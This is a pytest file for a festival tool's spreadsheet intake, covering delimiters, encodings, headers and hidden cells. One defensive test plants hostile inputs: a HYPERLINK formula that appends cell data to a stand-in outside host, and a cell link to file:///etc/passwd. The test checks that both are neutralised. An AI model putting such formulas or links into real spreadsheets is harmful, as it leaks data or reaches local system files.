"""A table is the same table in whatever file it comes."""

from datetime import date, datetime, time, timedelta

import pytest
from openpyxl.worksheet.worksheet import Worksheet

from festdesk.intake.tables.sheets import Sheet, sheets_of
from tests.intake.tables.workbooks import ods, ods_cell, rows, xlsx

TABLE = 'Title;Year;Synopsis\r\nDie Lücke;2021;"First; still first.\r\n\r\nSecond."\r\n'


def sheet(content: bytes | str, name: str = "films.csv") -> Sheet:
    (found,) = sheets_of(content.encode() if isinstance(content, str) else content, name)
    return found


@pytest.mark.parametrize("delimiter", list(";,\t|"))
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "windows-1252"])
def test_delimiter_and_encoding_are_found(delimiter: str, encoding: str) -> None:
    text = TABLE.replace(";", delimiter)
    found = sheet(text.encode(encoding))
    assert found.heads == ("Title", "Year", "Synopsis")
    body = f"First{delimiter} still first.\n\nSecond."
    assert found.rows == ((2, ("Die Lücke", "2021", body)),)


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("windows-1252", "Título;Año\n¿Quién soñó?;2001\n"),
        ("windows-1252", "Titel;År\nSmå Æbler, større drømme;2001\n"),
        ("windows-1250", "Tytuł;Reżyseria\nŻółć;Łukasz Dąbek\n"),
        ("windows-1250", "Title;Director\nCo řekl přítel o světě;Žofie Hrdličková\n"),
        ("windows-1254", "Film adı;Yıl;Ülke\nDağ ve şehir, üç gün;2001;Türkiye\n"),
        ("windows-1251", "Название;Год\nЗеркало;1975\n"),
        ("utf-16-le", "Titel;Jahr\nÜber uns;2001\n"),
        ("utf-16-be", "Titel;Jahr\nÜber uns;2001\n"),
    ],
)
def test_code_page_of_the_country_is_told_by_its_letters(encoding: str, text: str) -> None:
    head, row = text.strip().split("\n")
    found = sheet(text.encode(encoding))
    assert found.heads == tuple(head.split(";"))
    assert found.rows[0][1] == tuple(row.split(";"))


def test_delimiter_that_a_spreadsheet_names_counts() -> None:
    found = sheet("sep=:\nTitle:Year\nOne, two, three:2001\n")
    assert found.rows == ((3, ("One, two, three", "2001")),)


def test_commas_in_texts_do_not_outweigh_semicolons_between_cells() -> None:
    found = sheet("Title;Genres\nOne;Drama, Comedy\nTwo;Drama, War\nThree;Comedy, War\n")
    assert found.rows[0] == (2, ("One", "Drama, Comedy"))


def test_what_was_read_in_the_wrong_encoding_is_put_right() -> None:
    found = sheet("Titel,Regie\nDie Lücke,Jörg Müller\n".encode().decode("cp1252"))
    assert found.rows[0][1] == ("Die Lücke", "Jörg Müller")
    assert found.repairs == (
        "The text had been read in the wrong encoding; 3 places were put right.",
    )


def test_cells_of_a_workbook_show_what_a_person_reads_in_them() -> None:
    found = sheet(
        rows(
            ("Title", "Year", "Length", "Elapsed", "Day", "Start", "Clock", "Screened"),
            ("One", 2023.0, 92.5, timedelta(hours=1, minutes=32), date(2024, 5, 1),
             datetime(2024, 5, 1, 20, 30), time(18, 42, 7), True),
        )
    )  # fmt: skip
    assert found.rows == (
        (
            2,
            (
                "One",
                "2023",
                "92.5",
                "01:32:00",
                "2024-05-01",
                "2024-05-01 20:30",
                "18:42:07",
                "yes",
            ),
        ),
    )


def test_ods_gives_the_same_cells() -> None:
    cells = (
        ods_cell("One")
        + ods_cell("2.023", office_value_type="float", office_value="2023")
        + ods_cell("01:32", office_value_type="time", office_time_value="PT01H32M00S")
        + ods_cell("1.5.", office_value_type="date", office_date_value="2024-05-01T20:30:00")
        + '<table:table-cell table:number-columns-repeated="16000"/>'
    )
    heads = "".join(map(ods_cell, ("Title", "Year", "Length", "Start")))
    row = "<table:table-row{}>{}</table:table-row>"
    found = sheet(
        ods(
            '<table:table table:name="Filme">'
            + row.format("", heads)
            + row.format(' table:number-rows-repeated="2"', "<table:table-cell/>")
            + row.format(' table:visibility="collapse"', cells)
            + row.format(' table:number-rows-repeated="1048000"', "<table:table-cell/>")
            + "</table:table>"
        ),
        "films.ods",
    )
    assert found == Sheet(
        "Filme",
        ("Title", "Year", "Length", "Start"),
        ((4, ("One", "2023", "01:32:00", "2024-05-01 20:30")),),
        repairs=("Rows that the spreadsheet hides were read too: 4.",),
        hidden=frozenset({4}),
    )


def test_paragraphs_spaces_and_notes_of_ods_cells() -> None:
    text = 'A<text:s text:c="2"/>B<text:line-break/>C</text:p><text:p>D'
    note = "<office:annotation><text:p>a note</text:p></office:annotation>"
    cell = f"<table:table-cell>{note}<text:p>{text}</text:p></table:table-cell>"
    heads = f"<table:table-row>{ods_cell('Title')}{ods_cell('Synopsis')}</table:table-row>"
    row = f"<table:table-row>{ods_cell('One')}{cell}</table:table-row>"
    table = f'<table:table table:name="x">{heads}{row}</table:table>'
    assert sheet(ods(table)).rows == ((2, ("One", "A  B\nC\nD")),)


def test_several_worksheets_come_in_their_order_without_the_empty_ones() -> None:
    def fill(sheet: Worksheet) -> None:
        sheet.append(("Title", "Year"))
        sheet.append(("One", 2001))
        assert sheet.parent is not None
        sheet.parent.create_sheet("Nothing")
        other = sheet.parent.create_sheet("Filme")
        other.append(("Titel", "Jahr"))
        other.append(("Zwei", 2002))
        other.sheet_state = "hidden"

    first, second = sheets_of(xlsx(fill), "films.xlsx")
    assert (first.name, second.name) == ("Sheet", "Filme")
    assert second.repairs == ("The worksheet is hidden in its file.",)


def test_title_lines_stand_above_the_heads() -> None:
    found = sheet("Liste der Filme;;\nStand: 12. März;;\n;;\nTitel;Regie;Jahr\nA;B C;2001\n")
    assert found.heads == ("Titel", "Regie", "Jahr")
    assert found.rows == ((5, ("A", "B C", "2001")),)
    assert found.repairs == (
        "Row 1 stands above the heads and is no film: “Liste der Filme”.",
        "Row 2 stands above the heads and is no film: “Stand: 12. März”.",
    )


def test_heads_in_two_rows_and_joined_cells_are_put_together() -> None:
    def fill(sheet: Worksheet) -> None:
        sheet.append(("", "", "Vorführung 1", "", "Vorführung 2", ""))
        sheet.append(("Titel", "Regie", "Datum", "Kino", "Datum", "Kino"))
        sheet.append(("A", "B C", "1.5.", "Rex", "2.5.", "Odeon"))
        sheet.append(("D", "", "3.5.", "Rex", "", ""))
        sheet.merge_cells("C1:D1")
        sheet.merge_cells("E1:F1")
        sheet.merge_cells("B3:B4")

    found = sheet(xlsx(fill))
    assert found.heads == (
        "Titel", "Regie", "Vorführung 1 Datum", "Vorführung 1 Kino", "Vorführung 2 Datum",
        "Vorführung 2 Kino",
    )  # fmt: skip
    assert found.rows[1] == (4, ("D", "B C", "3.5.", "Rex", "", ""))


def test_hidden_parts_links_and_formulas_are_told_and_never_worked_out() -> None:
    def fill(sheet: Worksheet) -> None:
        sheet.append(("Title", "Sum", "Trailer", "Notes"))
        sheet.append(("One", "=1+1", "watch", "x"))
        sheet.append(("Two", '=HYPERLINK("http://a.example/?"&A1)', "", ""))
        sheet["C2"].hyperlink = "https://vimeo.example/1"
        sheet["A2"].hyperlink = "file:///etc/passwd"
        sheet.row_dimensions[3].hidden = True
        sheet.column_dimensions["D"].hidden = True

    found = sheet(xlsx(fill))
    assert [cells for _, cells in found.rows] == [
        ("One", "", "https://vimeo.example/1", "x"),
        ("Two", "", "", ""),
    ]
    assert found.repairs == (
        "Rows that the spreadsheet hides were read too: 3.",
        "Columns that the spreadsheet hides were read too: “Notes”.",
        (
            "Formulas without a stored value, empty here: 2, the first in row 2 under “Sum”. Open "
            "the table in its program and save it once more."
        ),
    )


def test_table_without_heads_has_none() -> None:
    found = sheet("Der Weg,Maren Ade,2016\nHome,Ann Lee,2019\n")
    assert (found.has_heads, found.heads, len(found.rows)) == (False, ("", "", ""), 2)


def test_heads_repeated_on_each_printed_page_are_no_film() -> None:
    found = sheet("Title,Year\nOne,2001\nTitle,Year\nTwo,2002\n")
    assert [number for number, _ in found.rows] == [2, 4]
